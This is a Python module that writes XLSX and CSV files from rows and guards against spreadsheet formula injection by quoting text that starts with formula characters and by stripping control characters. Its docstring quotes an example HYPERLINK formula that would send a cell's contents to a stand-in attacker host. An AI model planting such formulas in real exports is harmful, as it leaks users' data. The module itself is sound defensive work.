"""The one way the app writes spreadsheets (XLSX and CSV): rows in, file bytes out.

What people typed is never a formula. Every ``str`` is written as a text cell (data type
``s``), and text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
prefixed with a single quote (OWASP "CSV injection"), so a customer named
``=HYPERLINK("http://evil.example/?"&B2,"click")`` stays a name in Excel, WPS and LibreOffice.
Control characters are removed (a NUL would break the file; openpyxl refuses most of them).
Numbers, dates and booleans stay typed.
"""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

from .validation import strip_controls

#: what a spreadsheet reads as the start of a formula (or a DDE call)
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
#: Excel's limit on the text of one cell
MAX_CELL_TEXT = 32_767
#: characters a sheet title may not hold
_BAD_TITLE = re.compile(r"[\[\]:*?/\\]")

_TYPED = (bool, int, float, decimal.Decimal, dt.date, dt.datetime, dt.time)


def safe_text(value: Any) -> str:
    """``value`` as text a spreadsheet shows as text: no control characters (line breaks
    and tabs inside stay), a leading formula character neutralised by a single quote."""
    text = strip_controls(str(value), keep_lines=True) or ""
    if text.startswith(FORMULA_PREFIXES):
        text = "'" + text
    return text[:MAX_CELL_TEXT]


def safe_value(value: Any) -> Any:
    """A cell value: None, a number, a date (naive: spreadsheets know no zones) or safe text."""
    if value is None:
        return None
    if isinstance(value, float) and (value != value or value in (float("inf"), float("-inf"))):
        return safe_text(value)  # NaN and infinities are no number a sheet holds
    if isinstance(value, decimal.Decimal) and not value.is_finite():
        return safe_text(value)
    if isinstance(value, (dt.datetime, dt.time)) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    if isinstance(value, _TYPED):
        return value
    return safe_text(value)


def xlsx_bytes(rows: Iterable[Sequence[Any]], *, title: str = "Sheet1") -> bytes:
    """An .xlsx workbook of one sheet holding ``rows`` (the first is usually the header),
    written in openpyxl's streaming mode; every text cell is a string cell."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(_BAD_TITLE.sub("", safe_text(title).lstrip("'"))[:31] or "Sheet1")
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value=safe_value(value))
            if isinstance(cell.value, str):
                cell.data_type = "s"
            cells.append(cell)
        sheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """The same rows as CSV in UTF-8 with a byte-order mark (Excel then reads Chinese)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow(["" if v is None else safe_value(v) for v in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
